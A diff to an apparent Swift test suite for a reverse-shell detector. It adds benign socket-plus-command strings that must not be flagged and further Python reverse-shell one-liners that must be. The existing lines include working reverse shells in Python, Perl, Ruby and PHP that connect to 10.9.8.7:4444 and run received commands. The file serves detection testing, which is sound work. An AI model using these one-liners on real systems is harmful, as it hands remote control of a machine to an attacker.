@@ -40,6 +40,12 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     "puts -nonewline \"x\"; catch {set s [socket h 25]}; eval $cmd",
     "awk 'BEGIN{while((\"date\"|getline d)>0) print d; \"hostname\" |& getline h; print h > \"/inet/tcp/0/h/80\"}'",
     "import socket,subprocess\nclass A:\n def run(self,host,port):\n  self.s.connect((host, port))\n  m=self.s.recv(4096)\n  subprocess.run(m)",
+    "import socket,subprocess\ns=socket.socket()\ns.connect((\"10.0.0.5\",10051))\nr=s.recv(9)\ncmd=[\"df\",\"-h\"]\nsubprocess.check_output(cmd)",
+    "import socket,subprocess\ns=socket.create_connection((\"10.0.0.5\",22)); s.recv(64)\nsubprocess.run(f\"ssh {host} uptime\",shell=True)",
+    "<?php $s=fsockopen(\"10.0.0.5\",25);$r=fgets($s);$q=\"SELECT `$col` FROM t\";",
+    "c,_:=net.Dial(\"tcp\",\"10.0.0.5:2003\");cmd:=exec.Command(name,args...);cmd.Stdin = os.Stdin;cmd.Run()",
+    "Socket s=new Socket(\"10.0.0.5\",25);s.getInputStream();String[] cmd={\"/bin/sh\",\"-c\",\"ls /tmp\"};Runtime.getRuntime().exec(cmd);",
+    "$t=New-Object Net.Sockets.TcpClient(\"10.0.0.5\",443); if($t.Connected){iex $cmd}",
   ])
   func aCommandOfItsOwnIsNoShell(text: String) { #expect(shells(text).isEmpty) }
 
@@ -50,6 +56,8 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     "import socket,subprocess;s=socket.socket();s.connect((\"10.9.8.7\",4444));subprocess.Popen([\"sh\",\"-i\"],stdin=s)",
     "import socket,zlib\ns=socket.socket()\ns.connect((\"10.9.8.7\",4444))\nd=s.recv(9)\nexec(zlib.decompress(d),{\"s\":s})",
     "python3 -c 'a=__import__;s=a(\"socket\");o=a(\"os\").dup2;c=s.socket();c.connect((\"10.9.8.7\",4444));o(c.fileno(),0)'",
+    "import socket,os\ns=socket.socket()\ns.connect((\"10.9.8.7\",4444))\ncmd=\"\"\nwhile cmd!=\"x\":\n cmd=s.recv(99)\n os.system(cmd)",
+    "import socket,os\ns=socket.socket()\ns.connect((\"10.9.8.7\",4444))\nd=s.recv(99).decode()\nos.popen(f\"{d}\")",
     "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"10.9.8.7:4444\");STDIN->fdopen($c,r);system$_ while<>'",
     "ruby -rsocket -e 's=TCPSocket.new(\"10.9.8.7\",4444);while c=s.gets;s.print `#{c}`;end'",
     "php -r '$s=fsockopen(\"10.9.8.7\",4444);while($c=fgets($s)){exec(\"/bin/sh -c $c\");}'",
